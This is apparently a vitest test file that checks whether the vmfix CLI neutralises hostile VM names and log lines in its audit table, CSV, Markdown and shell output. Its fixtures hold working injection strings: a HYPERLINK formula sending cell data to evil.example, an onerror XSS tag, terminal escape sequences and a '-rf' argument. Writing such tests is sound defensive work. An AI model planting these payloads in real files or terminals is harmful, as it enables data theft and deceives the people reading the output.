// Names and log lines written by someone else reach the admin's terminal,
// spreadsheet, change ticket and shell: none of them may act there. A VM
// name with a newline forges no table row, a log line with escape sequences
// sets no title and clears no screen, a name starting with "=" runs nothing
// in a spreadsheet, raw HTML stays text in Markdown, and every command the
// ticket prints runs as printed, also for a VM named "-rf".
import { spawnSync } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { vmfix } from '../helpers/lab.js';
import { bench, figure, modifyingCalls, SCENARIO, type Bench } from './support.js';

const FORGED = 'web02\nCRITICAL  someone-else forged this row';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const HTML = '<img src=x onerror=alert(1)>';
const DASH = '-rf';

const scenario = structuredClone(SCENARIO) as any;
for (const [i, name] of [FORGED, FORMULA, HTML, DASH].entries()) {
  scenario.datacenters[0].vms.push({ name, host: 'esx01', nics: [{ network: 'PG-Web', mac: `00:50:56:aa:01:0${i}`, guestMac: `02:00:00:00:01:0${i}` }] });
}

/** What a terminal would act on: ESC and the other C0/C1 controls, bar newline and tab. */
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

let b: Bench;
beforeAll(async () => {
  b = await bench(scenario);
});
afterAll(async () => {
  if (!b) return;
  expect(await modifyingCalls(b.lab)).toEqual([]);
  await b.stop();
});

describe('hostile names and lines in what vmfix prints', () => {
  it('a newline in a VM name forges no row of the audit table', async (ctx) => {
    const fig = figure(ctx, 'bad input');
    const run = await b.run(['audit']);
    expect(run.code, run.stderr).toBe(1);
    expect(run.stdout.split('\n').filter((l) => /^\s*CRITICAL\s+someone-else/.test(l))).toEqual([]);
    expect(run.stdout).toContain('web02\\nCRITICAL');
    fig.done();
  });

  it('CSV cells that a spreadsheet would run as formulas are neutralised', async (ctx) => {
    const fig = figure(ctx, 'bad input');
    const run = await b.run(['audit', '--format', 'csv']);
    const cells = run.stdout.split(/\r?\n/).flatMap((row) => row.split(','));
    expect(cells.filter((c) => /^"?[=+\-@]/.test(c) && !/^"?'/.test(c))).toEqual([]);
    expect(run.stdout).toContain(`'=HYPERLINK`);
    fig.done();
  });

  it('raw HTML from a name stays text in Markdown', async (ctx) => {
    const fig = figure(ctx, 'bad input');
    const run = await b.run(['audit', '--format', 'markdown']);
    expect(run.code).toBe(1);
    // Inside code spans and fences Markdown shows text as text; anywhere else no tag may open.
    const prose = run.stdout.replace(/```[\s\S]*?```/g, '').replace(/`[^`\n]*`/g, '');
    expect(prose).not.toMatch(/<img/i);
    expect(run.stdout).toContain('&lt;img src=x onerror=alert(1)>');
    fig.done();
  });

  it('escape sequences in an offline log line reach the terminal as visible text', async (ctx) => {
    const fig = figure(ctx, 'bad input');
    const path = join(b.dir, 'vmkernel.log');
    await writeFile(path, [
      '2024-05-14T09:21:07.123Z cpu3:2098131)etherswitch: L2Sec_EnforcePortCompliance:247: client evil\u001b]0;pwned\u0007\u001b[2J requested mac address change to 02:00:00:00:00:99 on port 0x4000009, disallowed by vswitch policy',
      '',
    ].join('\n'));
    const run = await vmfix(['audit', '--vmkernel-log', path], { VMFIX_TEST_CWD: b.dir });
    expect(run.code, run.stderr).toBe(1);
    expect(run.stdout).not.toMatch(CONTROL);
    expect(run.stderr).not.toMatch(CONTROL);
    expect(run.stdout).toContain('evil');
    fig.done();
  });

  it('the change ticket names every affected VM, and its commands run as printed, also for a VM named -rf', async (ctx) => {
    const fig = figure(ctx, 'bad input');
    const run = await b.run(['fix', '--dry-run', '--strategy', 'portgroup-accept', '--vm', 'web01', `--vm=${DASH}`]);
    expect(run.code, run.stderr).toBe(0);
    const audits = run.stdout.split('\n').map((l) => /vmfix (audit [^`\n]*)/.exec(l)?.[1]).filter((c): c is string => Boolean(c));
    expect(audits.length).toBeGreaterThan(0);
    for (const command of audits) {
      expect(command).toContain('--vm=-rf');
      expect(command).toMatch(/--vm=web01\b/);
      // The shell reads it back to exactly the arguments vmfix meant.
      const argv = spawnSync('bash', ['-c', `printf '%s\\n' ${command}`], { encoding: 'utf8' }).stdout.trim().split('\n');
      expect(argv).toContain('--vm=-rf');
      const parsed = await b.run([...argv, '--format', 'json']);
      expect(parsed.stderr).not.toMatch(/Unknown argument|Not enough arguments/);
    }
    fig.done();
  });
});
